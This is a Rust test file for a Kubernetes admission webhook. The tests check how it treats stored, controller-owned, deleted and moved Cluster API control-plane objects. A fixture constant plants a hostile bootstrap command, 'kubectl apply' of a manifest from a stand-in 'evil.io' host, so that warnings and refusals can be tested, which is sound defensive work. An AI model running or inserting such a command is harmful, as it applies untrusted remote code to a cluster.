//! What is never held up: what is stored already, what controllers write, deletion, and a move.

use basphere_core::{ApiVersion, Kind, Operation, Phase};
use serde_json::{Value, json};

use super::{at, control_plane, of_kind, said, short, without_rules, world};
use crate::world::{World, admin, capi, warnings};

const EVIL: &str = "kubectl apply -f https://evil.io/x.yaml";

fn bad(version: ApiVersion) -> Value {
    control_plane(
        version,
        &json!({
            "files": [
                {"path": "/a", "content": "x"},
                {"path": "/b", "content": "image: quay.io/a/b"},
            ],
            "postKubeadmCommands": [EVIL],
        }),
    )
}

/// A world in which the control plane was stored before there were rules.
fn stored(version: ApiVersion) -> World {
    let mut old = without_rules();
    old.apply_all(&crate::world::example("cluster", version)[..2]);
    old.apply_all(&[bad(version)]);
    let mut world = world(version);
    world.stored = old.stored;
    world
}

#[test]
fn an_update_that_leaves_the_images_alone_passes() {
    for version in ApiVersion::CLUSTER_API {
        let mut world = stored(version);
        let mut object = bad(version);
        object["spec"]["replicas"] = json!(3);
        // In another order, as lists are that somebody has added to.
        let files = object["spec"]["kubeadmConfigSpec"]["files"]
            .as_array_mut()
            .expect("files");
        files.reverse();
        let decision = world.apply(&object);
        assert!(decision.is_allowed(), "{:?}", decision.denials);
        let tolerated = warnings(&decision);
        assert!(
            tolerated.contains(&("BSP-W006", &at("files[0].content"))),
            "{tolerated:?}"
        );
        assert!(
            tolerated.contains(&("BSP-W006", &at("postKubeadmCommands[0]"))),
            "{tolerated:?}"
        );
    }
}

#[test]
fn an_update_that_brings_another_image_is_refused_for_that() {
    for version in ApiVersion::CLUSTER_API {
        let world = stored(version);
        let mut object = bad(version);
        object["spec"]["kubeadmConfigSpec"]["postKubeadmCommands"] =
            json!([EVIL, "crictl pull quay.io/new/one"]);
        let decision = world.admit(&object);
        let refused = said(&decision);
        assert_eq!(
            short(&refused),
            [(
                "BSP-M001",
                &*at("postKubeadmCommands[1]"),
                "quay.io/new/one"
            )]
        );
    }
}

/// What is stored and cannot be looked at as a whole does not hide what is new.
#[test]
fn more_than_is_looked_at_is_refused() {
    let version = ApiVersion::V1Beta1;
    let images: String = (0..600)
        .map(|n| format!("- image: harbor.corp.example:8443/a:{n}\n"))
        .collect();
    let content = format!("{images}- image: quay.io/a/b\n");
    let config = json!({"files": [{"path": "/a", "content": content}]});
    let decision = world(version).admit(&control_plane(version, &config));
    let found = crate::world::denials(&decision);
    assert_eq!(found, [("BSP-R005", &*at("files[0].content"))]);
}

#[test]
fn controllers_are_never_refused() {
    for version in ApiVersion::CLUSTER_API {
        let config = bad(version)["spec"]["kubeadmConfigSpec"].clone();
        let owned = json!({
            "apiVersion": format!("bootstrap.cluster.x-k8s.io/{version}"),
            "kind": "KubeadmConfig",
            "metadata": {
                "name": "demo-control-plane-abcde",
                "labels": {"cluster.x-k8s.io/cluster-name": "demo"},
                "ownerReferences": [{
                    "apiVersion": format!("controlplane.cluster.x-k8s.io/{version}"),
                    "kind": "KubeadmControlPlane", "name": "demo-control-plane", "uid": "1",
                }],
            },
            "spec": config,
        });
        let mut topology = bad(version);
        topology["metadata"]["labels"]["topology.cluster.x-k8s.io/owned"] = "".into();
        let mut world = stored(version);
        world.requester = capi();
        for object in [owned, topology] {
            let decision = world.admit(&object);
            assert_eq!(said(&decision), [], "{}", object["kind"]);
            let spec = decision.object.as_ref().map(|stored| &stored["spec"]);
            assert_eq!(spec, Some(&object["spec"]), "{}", object["kind"]);
            assert!(decision.is_allowed(), "{:?}", decision.denials);
        }
    }
}

#[test]
fn what_is_being_deleted_passes() {
    let version = ApiVersion::V1Beta1;
    let mut world = stored(version);
    let stored = world
        .stored
        .get_mut(&(Kind::KubeadmControlPlane, "demo-control-plane".to_owned()));
    let stored = stored.expect("a control plane");
    stored["metadata"]["deletionTimestamp"] = "2026-01-01T00:00:00Z".into();
    stored["metadata"]["finalizers"] = json!(["a"]);
    let mut object = stored.clone();
    object["metadata"]["finalizers"] = json!([]);
    let decision = world.admit(&object);
    assert!(decision.is_allowed(), "{:?}", decision.denials);
    assert_eq!(said(&decision), []);
    let mut request = world.request(Phase::Validate, &object);
    request.operation = Operation::Delete;
    request.object = None;
    assert!(world.decide(&request).is_allowed());
}

#[test]
fn a_move_is_taken_as_it_is() {
    let version = ApiVersion::V1Beta1;
    let mut world = world(version);
    world.requester = admin();
    let mut object = bad(version);
    object["metadata"]["ownerReferences"] =
        json!([{"kind": "Cluster", "name": "demo", "uid": "1"}]);
    let decision = world.admit(&object);
    assert!(decision.is_allowed(), "{:?}", decision.denials);
    assert!(warnings(&decision).contains(&("BSP-W006", &at("postKubeadmCommands[0]"))));
}

/// The example cluster that people start from passes but for what is a matter of its repository.
#[test]
fn the_examples_pass() {
    for version in ApiVersion::CLUSTER_API {
        let mut world = world(version);
        for object in crate::world::example("cluster", version) {
            let decision = world.apply(&object);
            assert!(decision.is_allowed(), "{:?}", decision.denials);
            let said = said(&decision);
            assert!(said.iter().all(|(code, ..)| code == "BSP-M006"), "{said:?}");
        }
        assert!(of_kind(Kind::KubeadmControlPlane, version).is_object());
    }
}
